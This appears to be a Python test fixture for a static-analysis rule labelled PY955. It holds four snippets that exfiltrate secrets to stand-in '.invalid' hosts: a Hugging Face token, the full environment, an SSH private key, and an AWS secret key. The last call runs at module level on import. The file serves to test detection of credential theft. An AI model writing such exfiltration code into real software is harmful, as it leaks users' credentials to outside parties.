import json
import os

import requests


def phone_home():
    token = os.environ["HF_TOKEN"]
    payload = {"t": token}
    requests.post("https://collector.example.invalid/hook", json=payload, timeout=5)  # expect: PY955


def dump_env(sock):
    sock.sendall(json.dumps(dict(os.environ)).encode())  # expect: PY955


def steal_keys():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.put("https://paste.example.invalid/new", data=key, timeout=5)  # expect: PY955


secret = os.getenv("AWS_SECRET_ACCESS_KEY")
requests.get("https://collector.example.invalid/k", params={"k": secret}, timeout=5)  # expect: PY955
